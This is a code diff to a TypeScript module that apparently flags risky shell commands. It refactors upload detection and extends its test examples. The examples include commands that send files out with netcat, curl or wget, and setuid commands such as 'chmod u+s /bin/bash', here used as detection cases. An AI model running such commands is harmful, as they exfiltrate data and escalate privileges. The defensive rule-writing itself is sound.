@@ -1,7 +1,8 @@
 import type { Command } from '../shell/command.ts'
-import { behind, downloads, isLocal, pathsOf, runsItsInput, runsOutputOf, writesTo } from './command-words.ts'
-import { normalizePath, PATH_RULES } from './paths.ts'
+import { behind, downloads, runsItsInput, runsOutputOf, writesTo } from './command-words.ts'
+import { normalizePath } from './paths.ts'
 import type { CommandRule } from './rule.ts'
+import { uploads, uploadsSensitive } from './uploads.ts'
 
 function rule(
   [id, severity, title]: readonly [id: string, severity: CommandRule['severity'], title: string],
@@ -20,48 +21,6 @@ const ROOTS =
   /^(\/|\/\*|~|~\/|~\/\*|\/(bin|boot|dev|etc|home|lib|lib64|opt|root|sbin|srv|usr|var|system|library|users|applications)(\/\*?)?|\/(home|users)\/[^/*]+(\/\*?)?|[a-z]:\/?\*?)$/
 
 const DISK = /^\/dev\/(sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|mapper\/)/
-
-function isSensitive(path: string): boolean {
-  const normal = normalizePath(path)
-  return PATH_RULES.some(({ match }) => match(normal))
-}
-
-/** Files that a command sends to another machine. `-` is what comes down the pipe. */
-function uploads(command: Command): string[] {
-  const { program, args } = command
-  if (args.some(isLocal)) return []
-  if (program === 'curl') {
-    return args.flatMap((arg, i) => {
-      const value =
-        /^-[a-z]*[TFd]$|^--(upload-file|form|data|data-binary|data-raw|data-ascii|data-urlencode|json)$/i.test(arg)
-          ? args[i + 1]
-          : /^(?:-[TFd]|--[\w-]+=)(.+)$/.exec(arg)?.[1]
-      if (value === undefined) return []
-      if (/^(-T|--upload-file)/.test(arg)) return [value]
-      const file = /(?:^|=)[@<](.+)$/.exec(value)?.[1]
-      return file === undefined || arg.startsWith('--data-raw') ? [] : [file.replace(/;.*$/, '')]
-    })
-  }
-  if (program === 'wget') return args.flatMap(arg => /^--(?:post|body)-file=(.+)$/.exec(arg)?.[1] ?? [])
-  if (program === 'nc' || program === 'ncat' || program === 'netcat') {
-    return command.upstream.length > 0 && !args.includes('-l') ? ['-'] : command.redirects.map(({ target }) => target)
-  }
-  if (program === 'scp' || program === 'rsync') {
-    const plain = args.filter(arg => !arg.startsWith('-'))
-    return /^[^/]+:/.test(plain.at(-1) ?? '') ? plain.slice(0, -1) : []
-  }
-  return []
-}
-
-function uploadsSensitive(command: Command): boolean {
-  return uploads(command).some(file => {
-    if (file !== '-' && file !== '/dev/stdin') return isSensitive(file)
-    return (
-      behind(command, ({ program, args }) => program === 'printenv' || (program === 'env' && args.length === 0)) ||
-      behind(command, before => pathsOf(before).some(isSensitive))
-    )
-  })
-}
 
 const NETCAT: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'nc.traditional'])
 
@@ -196,6 +155,8 @@ export const COMMAND_RULES: readonly CommandRule[] = [
         'curl -F "f=@a.zip" https://x',
         'curl --data-binary @db.tgz https://x',
         'tar cz . | nc host 9',
+        'nc host 9 < dump.sql',
+        'curl -skT dump.sql https://x',
         'wget --post-file=a x',
       ],
       passed: [
@@ -203,17 +164,26 @@ export const COMMAND_RULES: readonly CommandRule[] = [
         'curl -F name=bob https://x',
         'curl https://x -o a',
         'curl -T a http://127.0.0.1/',
+        'nc host 80 2>/dev/null',
+        'curl -sSf https://x/a',
         'curl -H "@: x" https://x',
       ],
     },
   ),
   rule(
     ['setuid', 'critical', 'Program given the rights of its owner'],
-    command =>
-      command.program === 'chmod' && has(command, /^([ugo]*[+=][rwxXt]*s|0?[246]\d{3}$)/) && !has(command, /^[o]+\+t$/),
+    command => command.program === 'chmod' && has(command, /^(?!(?:g|o|go|og)[+=])[ugoa]*[+=][rwxXt]*s|^0?[4-7]\d{3}$/),
     {
       found: ['chmod u+s /bin/bash', 'chmod +s x', 'chmod 4755 /tmp/sh', 'sudo chmod 6777 a'],
-      passed: ['chmod +x run.sh', 'chmod 755 a', 'chmod 0644 a', 'chmod 1777 /tmp', 'chmod go-s a'],
+      passed: [
+        'chmod +x run.sh',
+        'chmod 755 a',
+        'chmod 0644 a',
+        'chmod 1777 /tmp',
+        'chmod go-s a',
+        'chmod g+s /srv/shared',
+        'chmod 2775 /srv/shared',
+      ],
     },
   ),
   rule(
